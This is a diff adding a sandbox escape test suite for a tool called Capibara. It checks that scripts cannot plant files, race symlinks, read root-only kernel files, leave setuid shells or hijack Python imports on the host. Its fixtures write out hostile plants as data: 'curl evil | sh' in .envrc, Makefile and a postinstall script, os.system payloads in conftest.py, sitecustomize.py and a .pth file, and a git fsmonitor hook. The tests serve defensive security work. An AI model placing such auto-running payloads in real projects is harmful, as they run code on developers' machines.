@@ -1,0 +1,477 @@
+/**
+ * The escape suite, copy-out and the host: outputs named where tools look, files planted under
+ * out/, symlinks, FIFOs and races at copy-out, root-only kernel files, the uid the sandbox maps to,
+ * setuid files and a `json.py` planted for Capibara's own Python. Each attack asserts that the
+ * attempt failed AND that the host is unchanged (see _escape.ts).
+ */
+import assert from "node:assert/strict";
+import { join } from "node:path";
+import { Capibara } from "../../src/capibara.ts";
+import { CapibaraError, ExecError, ValidationError } from "../../src/errors.ts";
+import {
+  attack,
+  CACHE,
+  escapeSuite,
+  exists,
+  fixedGenerator,
+  HOME,
+  neverRan,
+  NO_SANDBOX,
+  OS_SANDBOX,
+  OTHER,
+  PROJECT,
+  py,
+  ranMarker,
+  ROOT,
+  sh,
+  step,
+  ts,
+} from "./_escape.ts";
+
+// --- copy-out: outputs are staged, and only safe reported files reach the project --------------
+for (
+  const [name, context] of [
+    ["an output folder at the project root", { output: "./" }],
+    ["an output file's folder the project root, named as a folder", { out_dir: "." }],
+    ["an output inside .capibara/scripts/", { output: ".capibara/scripts/x/script.py" }],
+    ["an output inside .git/", { output: ".git/hooks/pre-commit" }],
+    ["an output folder that holds .git/", { output: join(PROJECT, "nested-repo") + "/" }],
+  ] as const
+) {
+  for (
+    const [language, script] of [
+      ["python", py(`open(${JSON.stringify(ranMarker)}, "w").write("ran")\nbreached = True`)],
+      ["bash", sh(`echo ran > ${ranMarker} && breached=1`)],
+      [
+        "typescript",
+        ts(`Deno.writeTextFileSync(${JSON.stringify(ranMarker)}, "ran"); breached = true;`),
+      ],
+    ] as const
+  ) {
+    attack({
+      name: `refused before running: ${name}`,
+      language,
+      context,
+      script,
+      blockedBy: [ValidationError],
+      hostUnchanged: neverRan,
+    });
+  }
+}
+
+/** Files tools run or trust, planted under an output folder (relative to it). */
+const PLANTS: Record<string, string> = {
+  ".git/config": "[core]\n\tfsmonitor = touch /tmp/capibara-owned\n",
+  ".github/workflows/ci.yml":
+    "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: evil}]}}\n",
+  ".vscode/tasks.json":
+    '{"tasks": [{"label": "x", "command": "evil", "runOptions": {"runOn": "folderOpen"}}]}\n',
+  ".envrc": "curl evil | sh\n",
+  ".bashrc": "curl evil | sh\n",
+  "Makefile": "all:\n\tcurl evil | sh\n",
+  "package.json": '{"scripts": {"postinstall": "curl evil | sh"}}\n',
+  "conftest.py": "import os; os.system('curl evil | sh')\n",
+  "sitecustomize.py": "import os; os.system('curl evil | sh')\n",
+  "evil.pth": "import os; os.system('curl evil | sh')\n",
+  "sub/.capibara/config.json": '{"allow": {"env": ["SECRET_TOKEN"]}}\n',
+};
+const plantedNowhere = async () => {
+  for (const rel of Object.keys(PLANTS)) {
+    assert.equal(await exists(join(PROJECT, "out", rel)), false, `out/${rel} was planted`);
+  }
+};
+/** Runs a host-side check, then empties out/ so that a breach does not spill into later attacks. */
+function thenCleanOut(check: () => Promise<void>): () => Promise<void> {
+  return async () => {
+    try {
+      await check();
+    } finally {
+      await Deno.remove(join(PROJECT, "out"), { recursive: true }).catch(() => {});
+    }
+  };
+}
+for (const reported of [true, false]) {
+  const how = reported ? "reported as artifacts" : "not reported";
+  const files = JSON.stringify(PLANTS);
+  attack({
+    name: `plant files tools run or trust under out/ (${how})`,
+    language: "python",
+    context: { output: "out/" },
+    script: py(`for rel, text in json.loads(${JSON.stringify(files)}).items():
+    path = os.path.join(ctx["output"], rel)
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    open(path, "w").write(text)
+    ${reported ? 'artifacts.append("out/" + rel)' : "pass"}
+open("out/fine.txt", "w").write("fine")
+artifacts.append("out/fine.txt")
+detail = "planted"  # the script cannot tell from inside whether they reach the project`),
+    blockedBy: [ExecError],
+    hostUnchanged: thenCleanOut(async () => {
+      await plantedNowhere();
+      // Not reported: the legitimate file is moved, the planted ones are not.
+      if (!reported && !NO_SANDBOX) {
+        assert.equal(await Deno.readTextFile(join(PROJECT, "out", "fine.txt")), "fine");
+      }
+    }),
+  });
+}
+attack({
+  name: "plant files tools run or trust under out/ (reported as artifacts)",
+  language: "bash",
+  context: { output: "out/" },
+  script: sh(`mkdir -p out/.git out/.vscode out/sub/.capibara && \\
+printf '[core]\\n\\tfsmonitor = evil\\n' > out/.git/config && echo '{}' > out/.vscode/tasks.json && \\
+echo 'curl evil | sh' > out/.envrc && echo '{}' > out/sub/.capibara/config.json && \\
+echo 'all:' > out/Makefile && echo fine > out/fine.txt && detail=planted
+printf '{"status":"ok","artifacts":["out/.git/config","out/.vscode/tasks.json","out/.envrc","out/sub/.capibara/config.json","out/Makefile","out/fine.txt"],"output":{"breached":false},"raw":{}}\\n'
+exit 0`),
+  blockedBy: [ExecError],
+  hostUnchanged: thenCleanOut(async () => {
+    for (const rel of [".git", ".vscode", ".envrc", "sub", "Makefile", "fine.txt"]) {
+      assert.equal(await exists(join(PROJECT, "out", rel)), false, `out/${rel} was planted`);
+    }
+  }),
+});
+attack({
+  name: "report a symlink, a FIFO and a link to a host folder as artifacts",
+  language: "python",
+  context: { output: "out/" },
+  script: py(`os.symlink(${JSON.stringify(join(OTHER, "secret.txt"))}, "out/secret-link.txt")
+os.symlink(${JSON.stringify(OTHER)}, "out/other")
+os.mkfifo("out/pipe")
+artifacts = ["out/secret-link.txt", "out/other/secret.txt", "out/pipe"]
+detail = "planted links"`),
+  blockedBy: [ExecError],
+  hostUnchanged: thenCleanOut(async () => {
+    for (const rel of ["secret-link.txt", "other", "pipe"]) {
+      assert.equal(
+        await exists(join(PROJECT, "out", rel)),
+        false,
+        `out/${rel} reached the project`,
+      );
+    }
+  }),
+});
+
+// Two runs at once: one swaps out/race between a folder and a symlink to another project while
+// the other writes into out/race/. No host folder may become writable, nor receive a file.
+step({
+  name: "escape: python: two runs race an output folder against a symlink to a host folder",
+  ignore: !OS_SANDBOX,
+  sanitizeOps: false,
+  sanitizeResources: false,
+  async fn() {
+    const runner = (name: string, script: string) =>
+      new Capibara({
+        root: PROJECT,
+        cwd: PROJECT,
+        cacheDir: CACHE,
+        generator: fixedGenerator({
+          language: "python",
+          script,
+          requirements: [],
+          outputs: {},
+          aliases: {},
+          needs: { network: [], env: [] },
+          readme: "",
+        }),
+        env: { PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin", HOME },
+        timeout: 30,
+        memoryBytes: 256 * 1024 ** 2,
+        sandbox: !NO_SANDBOX,
+        warn: () => {},
+      }).run(`escape test: race: ${name}`, {
+        context: name === "swapper" ? { output: "out/" } : { output: "out/race/" },
+        language: "python",
+      });
+    await Deno.mkdir(join(PROJECT, "out", "race"), { recursive: true });
+    const swapper = runner(
+      "swapper",
+      py(`import time, shutil
+end = time.time() + 3
+while time.time() < end:
+    try:
+        shutil.rmtree("out/race", ignore_errors=True)
+        os.symlink(${JSON.stringify(OTHER)}, "out/race")
+        time.sleep(0.001)
+        os.unlink("out/race")
+        os.mkdir("out/race")
+    except OSError as exc:
+        detail = repr(exc)
+artifacts = ["out/race"]`),
+    );
+    const writers = [0, 1, 2, 3].map((i) =>
+      runner(
+        `writer ${i}`,
+        py(`import time
+time.sleep(${0.3 + i * 0.5})
+for n in range(20):
+    try:
+        open(os.path.join(ctx["output"], f"raced-${i}-{n}.txt"), "w").write("raced")
+        artifacts.append(f"out/race/raced-${i}-{n}.txt")
+    except OSError as exc:
+        detail = repr(exc)
+    time.sleep(0.01)`),
+      )
+    );
+    const results = await Promise.allSettled([swapper, ...writers]);
+    const leaked = [...Deno.readDirSync(OTHER)].filter((e) => e.name.startsWith("raced-"));
+    const race = await Deno.lstat(join(PROJECT, "out", "race")).catch(() => null);
+    await Deno.remove(join(PROJECT, "out"), { recursive: true }).catch(() => {});
+    for (const e of leaked) await Deno.remove(join(OTHER, e.name));
+    for (const r of results) {
+      if (r.status === "rejected") {
+        assert.ok(r.reason instanceof CapibaraError, `unexpected failure: ${r.reason}`);
+      }
+    }
+    assert.deepEqual(leaked.map((e) => e.name), [], "BREACH: a run wrote into another project");
+    assert.ok(!race?.isSymlink, "BREACH: a run left a symlink in the project");
+  },
+});
+
+// Copy-out keeps the legitimate cases: a declared file at the top, and a report in a folder.
+attack({
+  name: "a declared output file at the top of the project is moved there",
+  language: "python",
+  context: { output: "top-report.txt" },
+  script: py(`open(ctx["output"], "w").write("top")
+artifacts = [ctx["output"]]
+detail = "wrote"`),
+  granted(o) {
+    assert.equal(o.detail, "wrote");
+    assert.equal(Deno.readTextFileSync(join(PROJECT, "top-report.txt")), "top");
+    Deno.removeSync(join(PROJECT, "top-report.txt"));
+  },
+});
+attack({
+  name: "a failed run leaves no output and no placeholder behind",
+  language: "python",
+  context: { output: "top-failed.txt" },
+  script: py(`open(ctx["output"], "w").write("partial")
+sys.stdout.flush()
+os._exit(3)`),
+  blockedBy: [ExecError],
+  hostUnchanged: async () =>
+    assert.equal(await exists(join(PROJECT, "top-failed.txt")), false, "a partial output stayed"),
+});
+
+// --- not root inside, host information, Capibara's own host-side Python ------------------------
+// When Capibara runs as root, the sandbox maps to an unprivileged host uid (65534), never root.
+for (
+  const [language, script] of [
+    [
+      "python",
+      py(`for name in ["/proc/slabinfo", "/proc/kpageflags"]:
+    try:
+        with open(name, "rb") as f:
+            f.read(16)
+        breached = True
+        detail += name + " read; "
+    except OSError as exc:
+        detail += name + ": " + str(exc.strerror) + "; "`),
+    ],
+    [
+      "bash",
+      sh(`for f in /proc/slabinfo /proc/kpageflags; do
+  if head -c 16 "$f" >/dev/null 2>&1; then breached=1; detail="$detail $f read"; fi
+done`),
+    ],
+  ] as const
+) {
+  attack({
+    name: "read root-only kernel files (/proc/slabinfo, /proc/kpageflags)",
+    language,
+    script,
+  });
+}
+// The same with an input only root may read (mode 0600): it is passed in as a copy, and the run
+// still maps to the unprivileged uid. Evidence on the host: the artifact holds what the script
+// could read of /proc/slabinfo.
+const CLOSED_INPUT = join(PROJECT, "data", "closed.txt");
+const CLOSED_MARK = join(PROJECT, "out-closed", "made.txt");
+for (
+  const [language, script] of [
+    [
+      "python",
+      py(`detail = open(ctx["input"]).read().strip() + "; "
+os.makedirs("out-closed", exist_ok=True)
+try:
+    open("out-closed/made.txt", "w").write(open("/proc/slabinfo").read(64))
+except OSError:
+    open("out-closed/made.txt", "w").write("denied")
+artifacts = ["out-closed/made.txt"]
+for name in ["/proc/slabinfo", "/proc/kpageflags"]:
+    try:
+        with open(name, "rb") as f:
+            f.read(16)
+        breached = True
+        detail += name + " read; "
+    except OSError as exc:
+        detail += name + ": " + str(exc.strerror) + "; "`),
+    ],
+    [
+      "bash",
+      sh(
+        `detail="$(cat data/closed.txt)"
+mkdir -p out-closed && { head -c 64 /proc/slabinfo 2>/dev/null || echo denied; } > out-closed/made.txt
+for f in /proc/slabinfo /proc/kpageflags; do
+  if head -c 16 "$f" >/dev/null 2>&1; then breached=1; detail="$detail $f read"; fi
+done`,
+        ["out-closed/made.txt"],
+      ),
+    ],
+  ] as const
+) {
+  attack({
+    name: "read root-only kernel files with an input only root may read (0600) in the context",
+    language,
+    script,
+    context: { input: "data/closed.txt", output: "out-closed/made.txt" },
+    async before() {
+      await Deno.writeTextFile(CLOSED_INPUT, "closed input");
+      await Deno.chmod(CLOSED_INPUT, 0o600);
+    },
+    granted(o) {
+      assert.match(String(o.detail), /^closed input/, "the closed input was not readable");
+      assert.equal(o.breached, false, `BREACH: ${JSON.stringify(o)}`);
+    },
+    async hostUnchanged() {
+      const made = await Deno.readTextFile(CLOSED_MARK).catch(() => "");
+      assert.ok(!made.includes("slabinfo"), "BREACH: the artifact holds /proc/slabinfo");
+      await Deno.remove(join(PROJECT, "out-closed"), { recursive: true }).catch(() => {});
+      await Deno.remove(CLOSED_INPUT).catch(() => {});
+    },
+  });
+}
+// Host root's files are the script's own exactly when the sandbox's uid is host root (the uid
+// map alone does not tell: bwrap nests a second user namespace).
+for (
+  const [language, script] of [
+    [
+      "python",
+      py(`owner = os.stat("/usr/bin").st_uid
+detail = "/usr/bin is owned by %d, the script is %d" % (owner, os.getuid())
+breached = owner == os.getuid()`),
+    ],
+    [
+      "bash",
+      sh(`owner=$(stat -c %u /usr/bin); me=$(id -u)
+detail="/usr/bin is owned by $owner, the script is $me"
+[ "$owner" = "$me" ] && breached=1`),
+    ],
+  ] as const
+) {
+  attack({ name: "run as the host's root (host root's files are its own)", language, script });
+}
+// A file the script creates in a granted write path: as host root, a setuid copy of a shell would
+// stay there, owned by root, for any local user to run.
+const SUID_DIR = join(OTHER, "suid-drop");
+for (
+  const [language, script] of [
+    [
+      "python",
+      py(`import shutil
+os.makedirs(${JSON.stringify(SUID_DIR)}, exist_ok=True)
+shutil.copy("/bin/sh", ${JSON.stringify(join(SUID_DIR, "sh"))})
+os.chmod(${JSON.stringify(join(SUID_DIR, "sh"))}, 0o4755)
+open(${JSON.stringify(join(SUID_DIR, "made.txt"))}, "w").write("made")
+detail = "planted"`),
+    ],
+    [
+      "bash",
+      sh(`mkdir -p ${SUID_DIR} && cp /bin/sh ${SUID_DIR}/sh && chmod 4755 ${SUID_DIR}/sh && \\
+echo made > ${SUID_DIR}/made.txt && detail=planted`),
+    ],
+  ] as const
+) {
+  attack({
+    name: "leave a setuid-root shell in a granted write path",
+    language,
+    script,
+    allow: { write: [SUID_DIR] },
+    async hostUnchanged() {
+      try {
+        const shell = await Deno.lstat(join(SUID_DIR, "sh")).catch(() => undefined);
+        if (shell) {
+          const setuidRoot = shell.uid === 0 && ((shell.mode ?? 0) & 0o4000) !== 0;
+          assert.ok(!setuidRoot, "a setuid shell owned by root was left on the host");
+        }
+        // Once the run is over, nothing it made is owned by the sandbox uid or kept its bits.
+        if (shell && Deno.uid() === 0 && !NO_SANDBOX) {
+          assert.equal((shell.mode ?? 0) & 0o6000, 0, "the setuid bit survived");
+          assert.equal((await Deno.lstat(join(SUID_DIR, "made.txt"))).uid, 0);
+        }
+      } finally {
+        await Deno.remove(SUID_DIR, { recursive: true }).catch(() => {});
+      }
+    },
+  });
+}
+// A script plants `json.py` at the top of the project (a declared output: not a name tools
+// trust). Capibara's own host-side Python (the interpreter probe, the compile check) then runs
+// from the project and must import nothing of it.
+const IMPORTED = join(ROOT, "host-python-imported.txt");
+const PLANTED_JSON = `open(${JSON.stringify(IMPORTED)}, "a").write("json.py ran on the host\\n")\n`;
+/** A later Python run from the project (cwd and root) imports nothing the script planted. */
+async function hostPythonImportsNothing(): Promise<void> {
+  // In a process of its own whose current directory is the project (a chdir here would move
+  // every test running in parallel).
+  const code = `
+const { Capibara } = await import(${JSON.stringify(import.meta.resolve("../../src/capibara.ts"))});
+const bundle = {
+  language: "python",
+  script: ${JSON.stringify(py(`detail = "later run"`))},
+  requirements: [],
+  outputs: {},
+  aliases: {},
+  needs: { network: [], env: [] },
+  readme: "",
+};
+const cb = new Capibara({
+  root: ${JSON.stringify(PROJECT)},
+  cwd: ${JSON.stringify(PROJECT)},
+  cacheDir: ${JSON.stringify(CACHE)},
+  generator: { kind: "escape-test", generate: () => Promise.resolve({ bundle, model: "m", attempts: 1 }) },
+  env: { PATH: ${JSON.stringify(Deno.env.get("PATH") ?? "/usr/bin:/bin")}, HOME: ${
+    JSON.stringify(HOME)
+  } },
+  timeout: 30,
+  sandbox: ${!NO_SANDBOX},
+  warn: () => {},
+});
+await cb.run("escape test: a later python run after json.py was planted", { context: {}, language: "python" });`;
+  try {
+    await new Deno.Command(Deno.execPath(), {
+      args: ["eval", "--config", new URL("../../deno.json", import.meta.url).pathname, code],
+      cwd: PROJECT,
+      stdout: "null",
+      stderr: "null",
+    }).output();
+  } finally {
+    await Deno.remove(join(PROJECT, "json.py")).catch(() => {});
+  }
+  const imported = await Deno.readTextFile(IMPORTED).catch(() => "");
+  await Deno.remove(IMPORTED).catch(() => {});
+  assert.equal(imported, "", "Capibara's host-side Python imported the planted json.py");
+}
+attack({
+  name: "plant json.py at the project's top for Capibara's host-side Python",
+  language: "python",
+  context: { output: "json.py" },
+  script: py(`open(ctx["output"], "w").write(${JSON.stringify(PLANTED_JSON)})
+artifacts = [ctx["output"]]
+detail = "planted"`),
+  hostUnchanged: hostPythonImportsNothing,
+});
+attack({
+  name: "plant json.py at the project's top for Capibara's host-side Python",
+  language: "bash",
+  context: { output: "json.py" },
+  script: `cat > json.py <<'PYEOF'
+${PLANTED_JSON}PYEOF
+printf '{"status":"ok","artifacts":["json.py"],"output":{"breached":false,"detail":"planted"},"raw":{}}\\n'
+`,
+  hostUnchanged: hostPythonImportsNothing,
+});
+
+Deno.test(escapeSuite("copy-out and the host", { atLeast: { sandbox: 32, noSandbox: 5 } }));
